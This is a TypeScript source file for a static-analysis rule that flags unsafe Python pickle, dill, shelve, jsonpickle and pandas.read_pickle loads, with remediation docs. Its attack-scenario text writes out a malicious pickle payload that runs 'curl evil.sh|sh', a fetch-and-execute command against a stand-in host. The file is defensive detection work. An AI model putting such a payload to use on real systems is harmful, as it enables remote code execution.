// pickle-deserialization: pickle and its relatives load data by running code (Bandit B301, Ruff S301).
import type { Node } from '../../src/analysis/syntax-node.js';
import { defineRule } from '../../src/analysis/rule.js';
import type { CallInfo } from '../../src/analysis/python/call-name.js';

const PICKLE_MODULES = ['pickle', 'cPickle', '_pickle', 'dill', 'cloudpickle'];
const LOADERS = [
  ...PICKLE_MODULES.flatMap((m) => [`${m}.load`, `${m}.loads`, `${m}.Unpickler`]),
  'shelve.open',
  'shelve.DbfilenameShelf',
  'jsonpickle.decode',
  'jsonpickle.unpickler.decode',
  'jsonpickle.unpickler.Unpickler',
  'pandas.read_pickle',
];

export default defineRule({
  meta: {
    id: 'pickle-deserialization',
    title: 'Data loaded with pickle, dill, shelve, jsonpickle or pandas.read_pickle',
    category: 'deserialization',
    cwe: ['CWE-502'],
    owasp: { '2021': ['A08:2021'], '2025': ['A08:2025'] },
    severity: 'medium',
    riskScore: 6,
    confidence: 'high',
    threat: 'integrity',
    timeline: '7-days',
    technology: ['pickle', 'dill', 'shelve', 'jsonpickle', 'pandas'],
    aliases: { bandit: ['B301'], ruff: ['S301'] },
    messages: {
      load: '`{{fn}}` deserialises with pickle, which runs code chosen by whoever wrote the data.',
    },
    docs: {
      whatItDoes:
        'Flags `pickle`/`cPickle`/`dill`/`cloudpickle` loads and Unpicklers, `shelve.open`, `jsonpickle.decode` and `pandas.read_pickle`.',
      whyBad:
        'A pickle stream is a program: `__reduce__` lets it call any importable function (`os.system`) while loading. Signing or trusting the transport is the only protection; validation after loading is too late.',
      businessImpact:
        'Remote code execution for anyone who can put bytes in front of the loader (cache, queue, upload, cookie).',
      attackScenario:
        'A service caches sessions as pickles in Redis; an attacker with write access to Redis stores a pickle whose `__reduce__` returns `(os.system, ("curl evil.sh|sh",))` and the next request runs it.',
      example: 'session = pickle.loads(redis.get(key))',
      useInstead: 'session = json.loads(redis.get(key))  # or sign the bytes with hmac and verify before loading',
      testing: 'Load a crafted pickle whose `__reduce__` creates a marker file and assert the loader refuses it.',
      knownProblems:
        'Loading files the application wrote itself is reported too; document the trust boundary when suppressing.',
      references: [
        'https://docs.python.org/3/library/pickle.html#restricting-globals',
        'https://cwe.mitre.org/data/definitions/502.html',
        'https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html',
      ],
    },
  },
  hints: ['DbfilenameShelf', 'cPickle', 'dill', 'loads', 'pickle', 'shelve'],
  create(ctx) {
    const check = (call: CallInfo) => {
      if (isRoundTrip(call, ctx.qualifiedName)) return;
      ctx.report({ node: call.node, messageId: 'load', data: { fn: call.name ?? 'pickle.loads' } });
    };
    return { calls: Object.fromEntries(LOADERS.map((fn) => [fn, check])) };
  },
});

/**
 * `pickle.loads(pickle.dumps(obj))`: a copy/round-trip test of an object this process already holds, so nothing
 * untrusted is deserialised (site-packages: most test-suite hits were this).
 */
function isRoundTrip(call: CallInfo, qualifiedName: (node: Node) => string | undefined): boolean {
  const arg = call.arg(0);
  if (call.method !== 'loads' || arg?.type !== 'call') return false;
  const inner = arg.childForFieldName('function');
  const name = inner ? qualifiedName(inner) : undefined;
  return name !== undefined && /\.dumps$/.test(name) && name.split('.')[0] === call.name?.split('.')[0];
}
